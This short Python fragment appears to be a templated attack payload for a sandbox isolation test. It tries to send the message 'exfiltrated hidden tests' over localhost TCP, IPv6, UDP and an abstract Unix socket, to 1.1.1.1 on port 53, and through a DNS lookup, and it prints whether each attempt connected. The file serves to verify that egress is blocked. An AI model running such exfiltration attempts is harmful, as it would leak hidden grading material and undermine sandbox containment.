

# ---- attack: reach the network -----------------------------------------------------------------------
# The test listens on 127.0.0.1:@@PORT@@ (TCP and UDP) and on the abstract Unix socket
# @@ABSTRACT@@; nothing may arrive. Honest code otherwise. Each attempt times out in 1 s.
import os as _os
import socket as _socket


def _try(what, fn):
    try:
        fn()
        print(f"NET {what}: connected")
    except OSError as exc:
        print(f"NET {what}: {type(exc).__name__} {exc.errno}")


def _tcp(host, port, family=_socket.AF_INET):
    with _socket.socket(family, _socket.SOCK_STREAM) as s:
        s.settimeout(1)
        s.connect((host, port))
        s.sendall(b"exfiltrated hidden tests")


def _udp():
    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as s:
        s.sendto(b"exfiltrated hidden tests", ("127.0.0.1", @@PORT@@))


def _abstract():
    with _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM) as s:
        s.settimeout(1)
        s.connect("\0@@ABSTRACT@@")
        s.sendall(b"exfiltrated hidden tests")


if not _os.path.exists(".net_done"):
    open(".net_done", "w").close()
    _try("tcp 127.0.0.1", lambda: _tcp("127.0.0.1", @@PORT@@))
    _try("tcp ::1", lambda: _tcp("::1", @@PORT@@, _socket.AF_INET6))
    _try("udp 127.0.0.1", _udp)
    _try("abstract unix", _abstract)
    _try("tcp 1.1.1.1:53", lambda: _tcp("1.1.1.1", 53))
    _try("dns example.com", lambda: _socket.getaddrinfo("example.com", 443))
